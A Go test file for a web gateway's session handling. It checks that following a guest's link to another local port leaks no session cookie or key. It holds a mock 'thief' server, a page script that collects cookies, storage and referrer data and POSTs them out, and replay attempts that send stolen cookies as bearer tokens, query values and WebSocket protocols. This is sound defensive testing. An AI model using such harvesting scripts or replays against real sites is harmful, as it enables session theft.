@@ -1,0 +1,284 @@
+package gateway
+
+import (
+	"bufio"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/chromedp/cdproto/network"
+	"github.com/chromedp/chromedp"
+	"github.com/coder/websocket"
+
+	"parley/actors"
+	"parley/events"
+)
+
+// thief is a guest's own server on another port of the host, which keeps all that it is sent, and tries what it can get
+// of a browser that has come.
+type thief struct {
+	mu   sync.Mutex
+	got  []string // every header and address
+	urls []string
+}
+
+// thiefPage tells the server what a page can find out about where its reader came from.
+const thiefPage = `<!doctype html><title>A thief</title><script>
+const found = [document.referrer, String(opener), document.cookie, name, JSON.stringify(localStorage), JSON.stringify(sessionStorage), String(history.length),
+  ...performance.getEntriesByType('navigation').map((e) => JSON.stringify(e)), String(globalThis.navigation?.activation?.from?.url)];
+fetch('/found', { method: 'POST', body: found.join('\n') }).then(() => { document.documentElement.dataset.done = 'yes' });
+</script>`
+
+func (f *thief) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	body, err := io.ReadAll(io.LimitReader(r.Body, 1<<20))
+	if err != nil {
+		return
+	}
+	var head strings.Builder
+	_ = r.Header.Write(&head) // to memory
+	f.mu.Lock()
+	f.got = append(f.got, r.Host+" "+r.RequestURI+"\n"+head.String()+string(body))
+	f.urls = append(f.urls, r.URL.Path)
+	f.mu.Unlock()
+	w.Header().Set("Content-Type", "text/html")
+	w.Header().Set("Set-Cookie", SessionCookie+"=of-the-thief; Path=/") // a port may set them for all
+	_, _ = io.WriteString(w, thiefPage)                                 // who has gone away does not miss it
+}
+
+func (f *thief) all() string {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	return strings.Join(f.got, "\n")
+}
+
+// TestALinkToAnotherPortGivesNothingAway has the host, who is signed in, follow a link in a guest's form to a server of
+// the guest's on another port. What that is sent gets it nowhere.
+func TestALinkToAnotherPortGivesNothingAway(t *testing.T) {
+	h := openParlour(t)
+	_, port, _ := strings.Cut(h.server.Address(), ":")
+	link := func() string {
+		code, err := h.server.links.make(h.node.Host())
+		if err != nil {
+			t.Fatal(err)
+		}
+		return "http://127.0.0.1:" + port + signInPath + "?code=" + code
+	}
+	robber := &thief{}
+	other := httptest.NewServer(robber)
+	t.Cleanup(func() { other.CloseClientConnections(); other.Close() })
+	_, its, _ := strings.Cut(strings.TrimPrefix(other.URL, "http://"), ":")
+	h.ask(actors.Ask{Title: "A port", Description: fmt.Sprintf("See [here](http://127.0.0.1:%s/by-address), [there](http://localhost:%s/by-name) and [yonder](http://127.0.0.1:%s/s/)", its, its, its),
+		Fields: []events.Field{{Name: "a"}}})
+	h.token = ""
+	b := h.openBrowser()
+	b.do(chromedp.Navigate(link()))
+	b.click("main button")
+	b.do(chromedp.WaitReady("html[data-live]"))
+	home := b.text(`location.href`)
+	cookie, key := h.sessionOf(b)
+	if !strings.Contains(home, sessionsPath+key+"/") {
+		t.Fatalf("the page is at %s", home)
+	}
+	for _, path := range []string{"/by-address", "/by-name", "/s/"} {
+		b.do(chromedp.Navigate(home), chromedp.WaitReady("html[data-live]"))
+		b.until(fmt.Sprintf(`document.querySelector('a[href$=%q]')`, path))
+		b.run(fmt.Sprintf(`{ const a = document.querySelector('a[href$=%q]'); a.target = '_self'; a.rel = 'opener'; a.click(); }`, path)) // the worst that it could be
+		b.do(chromedp.WaitReady(chromedp.CSS("html[data-done]")))
+	}
+	sent := robber.all()
+	if !strings.Contains(sent, "/by-address") || !strings.Contains(sent, "/by-name") || strings.Count(sent, "/found") != 3 {
+		t.Fatalf("the browser did not come: %s", sent)
+	}
+	secret := cookie[len("pls_")+52:]
+	for what, s := range map[string]string{"cookie": cookie, "secret": secret, "key": key} {
+		if strings.Contains(sent, s) {
+			t.Errorf("it was sent the %s:\n%s", what, sent)
+		}
+	}
+	b.do(chromedp.Navigate(home), chromedp.WaitReady("html[data-live]")) // and its cookie keeps nobody out
+	b.isFine()
+
+	// If it had one half all the same, by whatever means, that would be of no use.
+	for what, try := range map[string]replay{
+		"the cookie":                {cookie: cookie},
+		"the cookie and no key":     {cookie: cookie, at: sessionsPath + "/"},
+		"the cookie, a wrong key":   {cookie: cookie, at: sessionsPath + "AAAAAAAAAAAAAAAAAAAAAAAAAA"},
+		"the key":                   {at: sessionsPath + key},
+		"the key as a cookie":       {cookie: key, at: sessionsPath + key},
+		"the cookie as a token":     {bearer: cookie},
+		"the cookie as a token too": {bearer: cookie, cookie: cookie, at: sessionsPath + key},
+		"the secret as a token":     {bearer: "ply_" + cookie[4:]},
+		"the cookie in a query":     {query: "?token=" + cookie + "&access_token=" + cookie + "&" + SessionCookie + "=" + cookie},
+		"the cookie as a protocol":  {protocol: BearerProtocol + cookie},
+		"the key as a protocol":     {protocol: BearerProtocol + key, cookie: cookie},
+	} {
+		for _, got := range try.everywhere(t, h.server.Address()) {
+			if got.status != http.StatusUnauthorized {
+				t.Errorf("with %s, %s: %d", what, got.what, got.status)
+			}
+		}
+	}
+	for _, got := range (replay{cookie: cookie, at: sessionsPath + key}).everywhere(t, h.server.Address()) { // so that the tries above are good
+		if got.status == http.StatusUnauthorized && got.what != "POST /mcp" {
+			t.Errorf("with both halves, %s: %d", got.what, got.status)
+		}
+	}
+}
+
+// sessionOf gives the two halves of a tab's session.
+func (h *parlour) sessionOf(b *tab) (cookie, key string) {
+	h.t.Helper()
+	_, behind, _ := strings.Cut(b.text(`location.pathname`), sessionsPath)
+	key, _, _ = strings.Cut(behind, "/")
+	all, err := chromedp.Call(b.ctx, network.GetCookies, network.GetCookiesParams{URLs: []string{"http://" + h.server.Address() + sessionsPath + key + "/"}})
+	if err != nil {
+		h.t.Fatal(err)
+	}
+	for _, c := range all.Cookies {
+		if c.Name == SessionCookie && c.Path == sessionsPath+key {
+			return c.Value, key
+		}
+	}
+	h.t.Fatalf("there is no session: %v", all.Cookies)
+	return "", ""
+}
+
+// replay is what somebody shows who is no browser, and so says of itself what it likes.
+type replay struct{ cookie, bearer, protocol, query, at string }
+
+type replayed struct {
+	what   string
+	status int
+}
+
+// everywhere shows it at every kind of place.
+func (p replay) everywhere(t *testing.T, address string) (all []replayed) {
+	t.Helper()
+	for _, what := range []string{
+		"GET /", "GET /questions", "GET /agents", "GET /forms/0", "GET " + eventsPath, "GET " + openAPIPath, "GET " + metricsPath, "GET " + signOutPath,
+		"POST /rpc/status", "POST /rpc/create_token", "POST /rpc/send", "POST /forms/0", "POST " + toolsPath, "GET " + webSocketPath,
+	} {
+		method, path, _ := strings.Cut(what, " ")
+		conn, err := net.DialTimeout("tcp", address, 5*time.Second)
+		if err != nil {
+			t.Fatal(err)
+		}
+		_ = conn.SetDeadline(time.Now().Add(10 * time.Second)) // else reading fails too
+		fmt.Fprintf(conn, "%s %s%s%s HTTP/1.1\r\nHost: %s\r\nOrigin: http://%s\r\nSec-Fetch-Site: same-origin\r\nSec-Fetch-Mode: cors\r\nReferer: http://%s/\r\n",
+			method, p.at, path, p.query, address, address, address)
+		if p.cookie != "" {
+			fmt.Fprintf(conn, "Cookie: %s=%s\r\n", SessionCookie, p.cookie)
+		}
+		if p.bearer != "" {
+			fmt.Fprintf(conn, "Authorization: Bearer %s\r\n", p.bearer)
+		}
+		if path == webSocketPath {
+			fmt.Fprintf(conn, "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n")
+		}
+		if p.protocol != "" {
+			fmt.Fprintf(conn, "Sec-WebSocket-Protocol: %s\r\n", p.protocol)
+		}
+		body := ""
+		if method == http.MethodPost {
+			body = `{}`
+			fmt.Fprintf(conn, "Content-Type: application/json\r\n")
+		}
+		fmt.Fprintf(conn, "Content-Length: %d\r\n\r\n%s", len(body), body)
+		resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
+		if err != nil {
+			t.Fatalf("%s: %v", what, err)
+		}
+		all = append(all, replayed{what, resp.StatusCode})
+		_ = conn.Close() // a stream goes on for ever
+	}
+	return all
+}
+
+// TestABrowserThatIsSignedInFollowsPlainLinks: an agent's program knows the address of a form, and not of the session.
+func TestABrowserThatIsSignedInFollowsPlainLinks(t *testing.T) {
+	h := openParlour(t)
+	asked := h.ask(actors.Ask{Description: "Which port?", Fields: []events.Field{{Name: "a"}}})
+	b := h.openBrowser()
+	b.open("/agents")
+	b.do(chromedp.Navigate("http://"+h.server.Address()+formsPath+asked.Form.String()+"?as=#top"), chromedp.WaitReady("html[data-live]"))
+	if got, want := b.text(`location.href`), h.url+formsPath+asked.Form.String()+"?as=#top"; got != want {
+		t.Errorf("it is at %s, want %s", got, want)
+	}
+	if err := h.node.Host().RevokeToken(t.Context(), h.in[h.token].ID); err != nil {
+		t.Fatal(err)
+	}
+	for range 2 { // and goes round in no circle when the session has ended
+		b.do(chromedp.Navigate("http://" + h.server.Address() + "/questions"))
+		b.reads("main code", "parley open")
+	}
+	b.isFine()
+}
+
+// TestSigningOutEndsWhatIsOpen: the page, its stream and the connections of its session end at once, in every tab.
+func TestSigningOutEndsWhatIsOpen(t *testing.T) {
+	h := openParlour(t)
+	b := h.openBrowser()
+	b.open("/")
+	b.live()
+	elsewhere, err := h.node.Host().MakeSession(t.Context(), "another browser")
+	if err != nil {
+		t.Fatal(err)
+	}
+	open := func(in actors.Session) *websocket.Conn {
+		t.Helper()
+		conn, _, err := websocket.Dial(t.Context(), "ws://"+h.server.Address()+sessionsPath+in.Key+webSocketPath, &websocket.DialOptions{
+			HTTPHeader: http.Header{"Cookie": {SessionCookie + "=" + in.Text}},
+		})
+		if err != nil {
+			t.Fatal(err)
+		}
+		t.Cleanup(func() { _ = conn.CloseNow() })
+		return conn
+	}
+	own, others := open(h.in[h.token]), open(elsewhere)
+	second := h.tab(b.ctx)
+	second.do(chromedp.Navigate(h.url + signOutPath))
+	second.reads("h1", "Sign out")
+	second.click("form button")
+	second.do(chromedp.WaitReady("main:not(:has(button)) code"))
+	b.reads("#connection", "Signed out")
+	k := &talker{t, own}
+	if got := k.end(); got != websocket.StatusPolicyViolation {
+		t.Errorf("its connection ends with %v", got)
+	}
+	signedIn := func() int {
+		t.Helper()
+		all, err := h.node.Host().Tokens(t.Context())
+		if err != nil {
+			t.Fatal(err)
+		}
+		n := 0
+		for _, t := range all {
+			if t.Session {
+				n++
+			}
+		}
+		return n
+	}
+	if got := signedIn(); got != 1 { // the other browser's
+		t.Errorf("%d sessions are left", got)
+	}
+	delete(h.in, h.token)
+	last := h.tab(b.ctx)
+	last.do(chromedp.Navigate(h.url + signOutPath))
+	last.click("button[name=everywhere]")
+	last.do(chromedp.WaitReady("main:not(:has(button)) code"))
+	if got := (&talker{t, others}).end(); got != websocket.StatusPolicyViolation {
+		t.Errorf("the other's connection ends with %v", got)
+	}
+	if got := signedIn(); got != 0 {
+		t.Errorf("%d sessions are left", got)
+	}
+	last.isFine()
+}
